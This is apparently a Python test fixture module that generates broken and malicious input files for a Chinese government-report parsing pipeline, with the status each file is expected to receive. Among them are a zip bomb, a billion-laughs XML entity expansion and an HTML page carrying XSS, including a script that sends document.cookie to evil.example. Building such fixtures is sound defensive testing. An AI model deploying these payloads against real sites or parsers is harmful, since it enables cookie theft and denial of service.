"""The bad-input corpus, generated: each file with the status it must end with.

Broken, mislabelled, huge and malicious files as government sites serve them. Written by
code into a folder (nothing binary is committed); `expected_status` says how each ends.
"""

from __future__ import annotations

import io
import random
import zipfile
from dataclasses import dataclass
from pathlib import Path

from gaibao_pipeline.errors import Status
from gaibao_pipeline.synth import build_html, random_report
from gaibao_pipeline.synth.text_builder import build_text
from tests.conftest import corpus_file
from tests.documents.test_docx_fixtures import document_xml, make_docx, p
from tests.documents.test_pdf_fixtures import Page, build_pdf
from tests.support.archives import seven_zip_of, zip_of


@dataclass(frozen=True)
class BadFile:
    name: str
    data: bytes
    expected_status: Status
    why: str


def _report_text(seed: int, layout: str = "tab_rows") -> str:
    report = random_report(random.Random(seed), "2021", 2022, "某某市某某区人民政府")
    return build_text(report, layout).decode("utf-8")


def _sections_without_tables() -> str:
    text = _report_text(1)
    keep = [line for line in text.splitlines() if "\t" not in line]
    return "\n".join(keep)


def _tables_in_wrong_order() -> str:
    text = _report_text(2)
    head, rest = text.split("二、主动公开政府信息情况", 1)
    t2, rest = rest.split("三、收到和处理政府信息公开申请情况", 1)
    t3, rest = rest.split("四、政府信息公开行政复议、行政诉讼情况", 1)
    t4, tail = rest.split("五、存在的主要问题及改进情况", 1)
    return (
        head
        + "四、政府信息公开行政复议、行政诉讼情况"
        + t4
        + "三、收到和处理政府信息公开申请情况"
        + t3
        + "二、主动公开政府信息情况"
        + t2
        + "五、存在的主要问题及改进情况"
        + tail
    )


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"<w:document>" + b" " * (300 * 1024 * 1024) + b"</w:document>")
    return out.getvalue()


def _billion_laughs() -> bytes:
    prolog = (
        '<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
            for i in range(1, 10)
        )
        + "]>"
    )
    xml = document_xml(p("&lol9;"), prolog=prolog)
    return make_docx(xml=xml)


def _budget_page() -> str:
    return (
        "某某县财政局2023年部门预算公开说明\n"
        "一、部门主要职责\n负责全县财政收支管理。根据《中华人民共和国政府信息公开条例》要求，现将预算公开如下。\n"
        "二、收支预算总表\n收入合计 1234.56 万元，支出合计 1234.56 万元。\n"
        "三、一般公共预算支出表\n基本支出 800 万元，项目支出 434.56 万元。\n"
    )


def _scripted_html() -> bytes:
    html = build_html(random_report(random.Random(3), "2021", 2022, "某某市某某区人民政府")).decode("utf-8")
    evil = (
        '<script>document.location="http://evil.example/?"+document.cookie</script>'
        '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">链接</a>'
    )
    html = html.replace("<body>", f'<body onload="alert(3)">{evil}', 1)
    return html.replace("一、总体情况", "一、总体情况<script>alert(4)</script>", 1).encode("utf-8")


def bad_files() -> list[BadFile]:
    """Every hostile or broken input, with the status it must get."""
    pdf = corpus_file("hongze2023").read_bytes()
    seeds = [corpus_file(s).read_bytes() for s in ("002_730fd97f12cf432f", "003_8395e8e1ce32c1ce")]
    rng = random.Random(0)
    return [
        BadFile("empty.txt", b"", Status.UNREADABLE, "an empty file"),
        BadFile(
            "truncated.pdf",
            pdf[: len(pdf) // 3],
            Status.OK,
            "a PDF cut short: what survives is read, with a warning",
        ),
        BadFile(
            "corrupted.pdf",
            b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(20000)),
            Status.UNREADABLE,
            "garbage after a PDF header",
        ),
        BadFile(
            "encrypted.pdf",
            build_pdf([Page().text(50, 50, "x")], encrypted=True),
            Status.ENCRYPTED,
            "password protected",
        ),
        BadFile("many_pages.pdf", build_pdf([Page() for _ in range(2000)]), Status.TOO_LARGE, "2000 pages"),
        BadFile(
            "huge_page.pdf",
            build_pdf([Page(size=(200000.0, 200000.0))]),
            Status.TOO_LARGE,
            "a page 70 m wide",
        ),
        BadFile(
            "zip_bomb.docx", _zip_bomb(), Status.TOO_LARGE, "300 MB of XML compressed to a few hundred KB"
        ),
        BadFile(
            "billion_laughs.docx",
            _billion_laughs(),
            Status.NOT_A_REPORT,
            "XML entity expansion: never expanded",
        ),
        BadFile("really_a_pdf.docx", pdf, Status.OK, "a PDF with a .docx name"),
        BadFile(
            "really_html.txt",
            build_html(random_report(random.Random(4), "2019", 2020, "某某省某某厅")),
            Status.OK,
            "HTML named .txt",
        ),
        BadFile("garbage.bin", random.Random(150).randbytes(50000), Status.UNREADABLE, "random bytes"),
        BadFile("huge.txt", ("政府信息公开" * 3_000_000).encode("utf-8"), Status.TOO_LARGE, "54 MB of text"),
        BadFile("scripts.html", _scripted_html(), Status.OK, "scripts and event handlers in a report page"),
        BadFile(
            "no_tables.txt",
            _sections_without_tables().encode(),
            Status.OK,
            "a report whose tables are missing",
        ),
        BadFile("duplicated_tables.txt", (_report_text(5) * 2).encode(), Status.OK, "the same report twice"),
        BadFile("wrong_order.txt", _tables_in_wrong_order().encode(), Status.OK, "tables 四, 三, 二"),
        BadFile(
            "two_reports.txt", seeds[0] + b"\n" + seeds[1], Status.MULTIPLE_REPORTS, "two reports in one file"
        ),
        BadFile(
            "budget.txt",
            _budget_page().encode(),
            Status.NOT_A_REPORT,
            "a budget report mentioning 政府信息公开",
        ),
        # an image is read by OCR; one that cannot be decoded is unreadable
        BadFile("scan.png", b"\x89PNG\r\n\x1a\n" + bytes(2000), Status.UNREADABLE, "an undecodable image"),
        BadFile(
            "nested.html",
            ("<div>" * 100_000 + "报告" + "</div>" * 100_000).encode(),
            Status.UNREADABLE,
            "100 000 nested elements",
        ),
        BadFile("sheet.xlsx", _xlsx(), Status.UNREADABLE, "a workbook without its parts"),
        # archives that cannot be listed stay one file, with the archive's status
        BadFile("secret.7z", _secret_7z(), Status.ENCRYPTED, "a 7z archive whose names are encrypted"),
        BadFile("many.zip", _many_members(), Status.TOO_LARGE, "an archive of 3000 files"),
        BadFile("bundle.tar", bytes(257) + b"ustar\x0000" + bytes(754), Status.UNSUPPORTED_FORMAT, "a tar"),
    ]


def _secret_7z() -> bytes:
    return seven_zip_of({"report.pdf": b"%PDF-1.4"}, password="secret", header_encryption=True)


def _many_members() -> bytes:
    return zip_of({f"{i:04d}.txt": b"x" for i in range(3000)})


def _xlsx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


def write_corpus(folder: Path) -> dict[str, BadFile]:
    """Write every bad file into `folder`; return them by name."""
    folder.mkdir(parents=True, exist_ok=True)
    files = bad_files()
    for bad in files:
        (folder / bad.name).write_bytes(bad.data)
    return {bad.name: bad for bad in files}
